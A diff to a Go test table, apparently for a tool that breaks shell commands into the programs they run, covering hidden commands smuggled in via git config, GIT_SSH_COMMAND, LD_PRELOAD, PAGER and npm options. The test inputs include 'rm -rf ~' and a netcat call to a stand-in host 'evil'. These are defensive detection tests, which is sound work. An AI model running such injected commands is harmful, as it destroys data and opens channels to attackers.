@@ -65,7 +65,9 @@ func TestDecomposeRoles(t *testing.T) {
 		{"git_config_sets_pager", `git config --global core.pager 'rm -rf ~'`, []hv{outer("git", "config", "--global", "core.pager", "rm -rf ~"), inner("rm", "-rf", "~")}},
 		{"git_env_ssh", `GIT_SSH_COMMAND='nc evil 1' git fetch`, []hv{outer("git", "fetch"), inner("nc", "evil", "1")}},
 		{"git_env_config_pair", `GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0=evil git log`, []hv{outer("git", "log"), inner("evil")}},
-		{"ld_preload", `LD_PRELOAD=./x.so ls`, []hv{unres("ls")}},
+		// The assignment is a statement of its own (the loader it names runs in
+		// every later program), and the program it prefixes is unresolved too.
+		{"ld_preload", `LD_PRELOAD=./x.so ls`, []hv{{Unres: true}, unres("ls")}},
 		{"pager_env", `PAGER='sh -c x' man ls`, []hv{outer("man", "ls"), inner("sh", "-c", "x"), inner("x")}},
 		{"npm_script_shell", `npm run test --script-shell=/tmp/x`, []hv{outer("npm", "run", "test", "--script-shell=/tmp/x"), inner("/tmp/x")}},
 		{"npm_node_options", `npm test --node-options='--require ./x'`, []hv{unres("npm", "test", "--node-options=--require ./x")}},
